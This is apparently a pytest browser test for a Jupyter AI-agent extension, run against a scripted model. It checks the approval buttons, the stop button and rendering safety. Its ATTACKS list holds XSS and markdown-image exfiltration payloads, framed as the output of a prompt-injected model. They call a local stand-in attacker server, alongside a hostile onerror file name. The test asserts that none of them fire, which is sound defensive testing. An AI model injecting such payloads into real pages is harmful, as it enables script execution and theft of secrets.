"""The notebook face in a real JupyterLab, driven by headless Chromium.

Needs JupyterLab with the ipywidgets frontend in ``.venv-browser`` (``jupyterlab==4.6.6``,
``jupyterlab_widgets==3.0.17``), ``playwright`` in ``.venv`` and Debian's ``chromium``, all installed by
``scripts/test.sh``; without them the tests are skipped, saying which is missing (under CI they fail).
The kernel is ``.venv``'s Python (a kernelspec in a temporary ``JUPYTER_PATH``); the model is scripted,
so what is checked is the display, the buttons and the stop button — not a model.
"""

from __future__ import annotations

import http.server
import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parent.parent
JUPYTER_LAB = Path(os.environ.get("TWINNY_JUPYTER_LAB", ROOT / ".venv-browser" / "bin" / "jupyter-lab"))
CHROMIUM = os.environ.get("TWINNY_CHROMIUM", shutil.which("chromium") or "/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
WAIT_MS = 60_000
#: Where the screenshots are kept for a person to look at (artifacts/ is not committed).
SHOTS = ROOT / "artifacts" / "browser"

SETUP = """\
from pathlib import Path
from twinny_magics import Agent, ToolCall
from twinny_magics.servers.scripted import Scripted, ScriptedServer

Path("a.py").write_text("x = 1\\n")
HOSTILE_NAME = "<img src=x onerror=alert(1)>.md"
Path(HOSTILE_NAME).write_text("<script>alert(2)</script>")
HOSTILE_ANSWER = {hostile_answer!r}
PROPOSED = "doubled = checked * 2\\nprint('doubled', doubled)"
server = ScriptedServer([
    Scripted("Let me look.", calls=(ToolCall("read_file", {"path": "a.py"}),)),
    Scripted("", calls=(ToolCall("edit_file", {"path": "a.py", "find": "x = 1", "replace": "x = 2"}),)),
    "I proposed **x is two**.",
    Scripted("", calls=(ToolCall("run_command", {"command": "touch approved.txt"}),)),
    "It ran.",
    Scripted("word " * 400, delay=0.05),
    "Short answer.",
    Scripted("Reading it.", calls=(ToolCall("read_file", {"path": HOSTILE_NAME}),)),
    HOSTILE_ANSWER,
    Scripted("", calls=(ToolCall("run_python", {"code": "checked = 41 + 1\\nchecked"}),)),
    Scripted("", calls=(ToolCall("propose_cell", {"code": PROPOSED, "why": "double it"}),)),
    "I checked it and proposed the next step.",
])
demo = Agent(server=server, workspace=Path.cwd(), shell=get_ipython())
%load_ext twinny_magics
%agent use demo"""
#: What a prompt-injected model might answer: each piece would run script or load from the leak server if
#: the page took it as HTML (``{leak}`` is that server's address; every request it gets is a failure).
ATTACKS = [
    "![badge]({leak}/markdown-image?k=secret)",
    "<img src={leak}/raw-img onerror=\"fetch('{leak}/onerror'); window.__pwned = 1; alert(1)\">",
    "<script>fetch('{leak}/script'); window.__pwned = 2;</script>",
    "<svg onload=\"fetch('{leak}/svg'); window.__pwned = 3\"></svg>",
    '<iframe src="javascript:parent.__pwned = 4"></iframe>',
    '</details></div><img src=x onerror="window.__pwned = 5">',
    "[click me](javascript:window.__pwned=6)",
    "<style>body {{ background: url({leak}/css) }}</style>",
]
CELLS = [
    SETUP,
    "%%agent\nSet x to 2.",
    "%%agent\nTouch approved.txt.",
    "%%agent\nWrite a very long story.",
    "%%agent\nAgain, briefly.",
    "%%agent\nWhat is in the odd file?",
    # The control: the same kind of image as plain text/markdown output does reach the leak server, so the
    # check above it can fail.
    "from IPython.display import Markdown\nMarkdown('![control]({leak}/control)')",
    "%%agent\nCheck the value and propose the next cell.",
]


def _missing() -> str | None:
    if not JUPYTER_LAB.exists():
        return (
            f"JupyterLab not found at {JUPYTER_LAB} (make .venv-browser with jupyterlab, jupyterlab_widgets)"
        )
    if not Path(CHROMIUM).exists():
        return f"Chromium not found at {CHROMIUM} (apt-get install chromium)"
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        return "playwright is not installed in this environment"
    return None


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


class Lab:
    """A JupyterLab server with fresh config, runtime and IPython folders, serving ``root``."""

    def __init__(self, base: Path) -> None:
        self.root = base / "work"
        self.root.mkdir()
        kernels = base / "jupyter" / "kernels" / "python3"
        kernels.mkdir(parents=True)
        argv = [sys.executable, "-Xfrozen_modules=off", "-m", "ipykernel_launcher", "-f", "{connection_file}"]
        kernels.joinpath("kernel.json").write_text(
            json.dumps({"argv": argv, "display_name": "Python 3 (twinny)", "language": "python"})
        )
        self.port, self.token = _free_port(), secrets.token_hex(16)
        env = {
            **os.environ,
            "JUPYTER_CONFIG_DIR": str(base / "config"),
            "JUPYTER_RUNTIME_DIR": str(base / "runtime"),
            "JUPYTER_DATA_DIR": str(base / "data"),
            "IPYTHONDIR": str(base / "ipython"),
            "JUPYTER_PATH": str(base / "jupyter"),
        }
        command = [
            str(JUPYTER_LAB),
            "--no-browser",
            "--ServerApp.ip=127.0.0.1",
            f"--ServerApp.port={self.port}",
            f"--IdentityProvider.token={self.token}",
            f"--ServerApp.root_dir={self.root}",
            "--LabApp.news_url=None",
            "--LabApp.check_for_updates_class=jupyterlab.NeverCheckForUpdate",
            "--LabApp.expose_app_in_browser=True",
        ]
        if os.geteuid() == 0:
            command.append("--allow-root")
        self.log = (base / "lab.log").open("w")
        self.process = subprocess.Popen(
            command, env=env, stdout=self.log, stderr=subprocess.STDOUT, start_new_session=True
        )
        self._wait_ready()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}?token={self.token}"

    def _wait_ready(self) -> None:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise RuntimeError(f"JupyterLab exited with {self.process.returncode}; see {self.log.name}")
            try:
                urllib.request.urlopen(self.url("/api/status"), timeout=1).close()
                return
            except OSError:
                time.sleep(0.2)
        raise TimeoutError("JupyterLab did not start in 60 s")

    def stop(self) -> None:
        # The server's own shutdown also shuts its kernels down (they run in sessions of their own).
        try:
            request = urllib.request.Request(self.url("/api/shutdown"), method="POST")
            urllib.request.urlopen(request, timeout=5).close()
            self.process.wait(15)
        except (OSError, subprocess.TimeoutExpired):
            os.killpg(self.process.pid, signal.SIGKILL)
            self.process.wait(5)
        self.log.close()


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    missing = _missing()
    if missing and os.environ.get("CI"):
        pytest.fail(f"{missing}; scripts/test.sh installs it")  # CI must run this test, never skip it
    if missing:
        pytest.skip(missing)
    SHOTS.mkdir(parents=True, exist_ok=True)
    server = Lab(tmp_path_factory.mktemp("lab"))
    yield server
    server.stop()


class Leak:
    """A server standing for an attacker's host: it records every request the page makes to it."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        seen = self.paths

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def leak() -> Iterator[Leak]:
    server = Leak()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def page(lab: Lab, leak: Leak) -> Iterator[Any]:
    """The test notebook open in JupyterLab, its kernel idle, every cell started."""
    from playwright.sync_api import sync_playwright

    answer = "Here is what I found.\n\n" + "\n\n".join(ATTACKS) + "\n\nThat is all."
    sources = [
        source.replace("{hostile_answer!r}", repr(answer.replace("{leak}", leak.url))).replace(
            "{leak}", leak.url
        )
        for source in CELLS
    ]
    notebook = new_notebook(cells=[new_code_cell(source) for source in sources])
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(notebook, lab.root / "agent.ipynb")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        opened = browser.new_page(viewport={"width": 1300, "height": 1800})
        opened.set_default_timeout(WAIT_MS)
        opened.dialogs = []  # every alert/confirm/prompt the page opens (none may)
        opened.on("dialog", lambda dialog: (opened.dialogs.append(dialog.message), dialog.dismiss()))
        opened.goto(lab.url("/lab/tree/agent.ipynb"))
        # The status bar's text, not the data-status attribute, which says idle too early.
        opened.wait_for_function(
            "document.querySelector('#jp-main-statusbar')?.innerText.includes('Idle')", timeout=WAIT_MS
        )
        # Not awaited: the promise settles only when every cell is done, and one waits for a click.
        opened.evaluate("() => { window.jupyterapp.commands.execute('notebook:run-all-cells'); }")
        yield opened
        browser.close()


def output(page: Any, cell: int) -> Any:
    """The output area of a cell (its source holds the same words)."""
    return page.locator(".jp-Notebook .jp-Cell").nth(cell).locator(".jp-OutputArea")


def wait_for_text(page: Any, cell: int, text: str) -> None:
    # Visible matches only: a collapsed item may hold the same words (the head start's evidence quotes
    # the notebook, which holds the cells' sources and their saved outputs).
    output(page, cell).get_by_text(text, exact=False).filter(visible=True).first.wait_for(timeout=WAIT_MS)


def test_a_reply_shows_its_status_bars_calls_and_markdown_answer(page: Any, lab: Lab) -> None:
    wait_for_text(page, 1, "An edit waits for review")
    area = output(page, 1)
    assert area.locator("details summary").filter(has_text="read_file").count() == 1
    # The head start: what the loop gave the model before it looked, a collapsed item like a call.
    assert area.locator("details summary").filter(has_text="head_start").count() == 1
    assert area.get_by_text("Request 2 · native").count() == 1
    assert area.locator("div[title^='system:']").count() == 3  # one window bar per request
    assert area.locator("strong").filter(has_text="x is two").count() == 1  # Markdown, rendered
    area.locator("details summary").filter(has_text="read_file").click()
    assert "1: x = 1" in area.locator("details[open] pre").first.inner_text()
    page.screenshot(path=str(SHOTS / "reply.png"), full_page=True)


def test_the_run_button_approves_a_command_while_the_cell_runs(page: Any, lab: Lab) -> None:
    area = output(page, 2)
    run = area.locator("button").filter(has_text="Run").first
    run.wait_for(timeout=WAIT_MS)
    wait_for_text(page, 2, "waiting for approval")
    assert not (lab.root / "approved.txt").exists()
    run.click()
    wait_for_text(page, 2, "— approved")
    wait_for_text(page, 2, "It ran.")
    assert (lab.root / "approved.txt").exists()


def test_the_stop_button_stops_a_reply_and_the_next_cell_runs(page: Any) -> None:
    wait_for_text(page, 3, "writing (")
    page.locator("[data-command='notebook:interrupt-kernel']").first.click()  # the toolbar's stop button
    wait_for_text(page, 3, "Stopped")
    assert output(page, 3).get_by_text("KeyboardInterrupt").count() == 0
    wait_for_text(page, 4, "Short answer.")


def test_a_kernel_run_is_approved_and_a_proposed_cell_inserted_below_not_run(page: Any) -> None:
    area = output(page, 7)
    wait_for_text(page, 7, "The model asks to run this Python in your kernel")
    area.locator("button").filter(has_text="Run").first.click()
    wait_for_text(page, 7, "The model proposes this cell")
    area.locator("button").filter(has_text="Insert").first.click()
    wait_for_text(page, 7, "I checked it and proposed the next step.")
    # The run's item holds its code and what it gave back.
    area.locator("details summary").filter(has_text="run_python").click()
    opened = area.locator("details[open]").first.inner_text()
    assert "checked = 41 + 1" in opened
    assert "value: 42" in opened
    # The new cell is below the question, holds the code, and was not run (no count, no output).
    inserted = page.locator(".jp-Notebook .jp-Cell").nth(8)
    inserted.get_by_text("doubled = checked * 2", exact=False).first.wait_for(timeout=WAIT_MS)
    assert "print('doubled', doubled)" in inserted.locator(".jp-InputArea-editor").inner_text()
    assert inserted.locator(".jp-InputPrompt").inner_text().strip() in ("[ ]:", "[\u00a0]:", "[ ]")
    assert inserted.locator(".jp-OutputArea-output").count() == 0
    assert page.locator(".jp-Notebook .jp-Cell").count() == len(CELLS) + 1
    page.screenshot(path=str(SHOTS / "kernel.png"), full_page=True)


def test_the_apply_button_writes_the_edit_after_the_cell_has_finished(page: Any, lab: Lab) -> None:
    wait_for_text(page, 4, "Answered")  # every cell is done: the kernel is free for the click
    assert (lab.root / "a.py").read_text() == "x = 1\n"
    output(page, 1).locator("button").filter(has_text="Apply").click()
    wait_for_text(page, 1, "Proposed edit to a.py — applied")
    assert (lab.root / "a.py").read_text() == "x = 2\n"
    page.screenshot(path=str(SHOTS / "after.png"), full_page=True)


def test_hostile_model_text_and_file_names_stay_inert_in_the_page(page: Any, leak: Leak) -> None:
    wait_for_text(page, 5, "That is all.")
    output(page, 6).locator("img").first.wait_for(state="attached", timeout=WAIT_MS)
    area = output(page, 5)
    # The attacks are on the page as text, the formatting around them rendered.
    assert area.get_by_text("[image: badge").count() == 1
    assert area.get_by_text("[click me](javascript:").count() == 1
    assert area.locator("summary").filter(has_text="<img src=x onerror=alert(1)>.md").count() == 1
    # In what the outputs render (JupyterLab's own icons around them are SVG).
    live = area.locator(".jp-OutputArea-output").locator("img, script, iframe, svg, style, object, embed")
    assert live.count() == 0, live.evaluate_all("(nodes) => nodes.map((n) => n.outerHTML.slice(0, 300))")
    page.wait_for_timeout(1500)  # time for any image, frame or handler to fire (the control's too)
    assert page.evaluate("() => window.__pwned") is None
    assert page.dialogs == []
    # Only the control reached the "attacker's" server: the check can see a leak, and ours made none.
    assert leak.paths == ["/control"], leak.paths
    page.screenshot(path=str(SHOTS / "hostile.png"), full_page=True)
